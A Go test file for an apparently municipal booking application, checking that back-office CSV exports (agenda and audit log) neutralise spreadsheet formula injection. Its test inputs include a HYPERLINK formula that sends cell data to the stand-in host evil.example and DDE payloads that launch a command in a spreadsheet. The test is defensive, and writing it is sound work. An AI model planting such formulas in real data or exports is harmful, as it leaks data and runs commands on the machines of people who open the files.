package backoffice_test

import (
	"context"
	"encoding/csv"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/prenota/prenota/auth"
	"github.com/prenota/prenota/booking"
	"github.com/prenota/prenota/internal/testdb"
)

// readCSV parses an export of the back office.
func readCSV(t *testing.T, body string) [][]string {
	t.Helper()
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\uFEFF")))
	r.Comma, r.FieldsPerRecord = ';', -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("csv: %v\n%s", err, body)
	}
	return rows
}

// TestCSVInjection: texts that a spreadsheet would run as formulas, typed by
// a citizen (motivazione, nota) or an admin (a name), are neutralised in the
// agenda and audit exports.
func TestCSVInjection(t *testing.T) {
	for _, d := range testdb.Dialects() {
		t.Run(d, func(t *testing.T) {
			a, base := startApp(t, d)
			ctx := context.Background()
			res := findResourceID(t, a, "Carte d'Identità Elettronica")
			id, _ := strconv.ParseInt(res, 10, 64)
			day := booking.DateOf(monday, booking.Rome).AddDays(2)
			p := auth.DemoIdentities[0].Person
			h, err := a.Service.Hold(ctx, booking.HoldRequest{ResourceID: id, Start: at(day, "09:00"), Slots: 1, Owner: p.CodiceFiscale})
			if err != nil {
				t.Fatal(err)
			}
			mot := `=HYPERLINK("https://evil.example/?"&A1,"Apri")`
			if _, _, err := a.Service.Confirm(ctx, booking.ConfirmRequest{HoldID: h.ID, Presentante: p.CodiceFiscale, Fruitore: p,
				Motivazione: mot, Nota: "@SUM(1+1)*cmd|' /C calc'!A0", Telefono: "+39 333 1234567"}); err != nil {
				t.Fatal(err)
			}
			evil, err := auth.NewUser("evil", "=cmd|' /C calc'!A0", "evil@comune.demo.it", "", auth.RoleAdmin, password)
			if err != nil {
				t.Fatal(err)
			}
			if err := a.Identity.Accounts.AddUser(ctx, evil, "cli"); err != nil {
				t.Fatal(err)
			}
			ec := newClient(t, base)
			ec.login("evil")

			admin := newClient(t, base)
			admin.login("admin")
			agenda := admin.get("/backoffice/agenda/" + res + "/prenotazioni.csv?data=" + day.String())
			want(t, "agenda csv", agenda, http.StatusOK)
			rows := readCSV(t, agenda.body)
			head := rows[0]
			var found bool
			for _, r := range rows[1:] {
				if r[slices.Index(head, "Motivazione")] == "'"+mot {
					found = true
					if got := r[slices.Index(head, "Nota")]; got != "'@SUM(1+1)*cmd|' /C calc'!A0" {
						t.Errorf("nota cell %q", got)
					}
					if got := r[slices.Index(head, "Telefono")]; got != "'+39 333 1234567" {
						t.Errorf("telefono cell %q", got)
					}
				}
			}
			if !found {
				t.Errorf("no neutralised motivazione in the agenda:\n%s", agenda.body)
			}
			audit := admin.get("/backoffice/audit/registro.csv?chi=evil&dal=" + time.Now().AddDate(0, 0, -1).Format("2006-01-02"))
			want(t, "audit csv", audit, http.StatusOK)
			rows = readCSV(t, audit.body)
			if len(rows) < 2 {
				t.Fatalf("no audit rows for evil:\n%s", audit.body)
			}
			for _, r := range rows[1:] {
				if name := r[slices.Index(rows[0], "Nome")]; !strings.HasPrefix(name, "'=cmd|' /C calc'!A0") {
					t.Errorf("audit name cell %q", name)
				}
			}
		})
	}
}
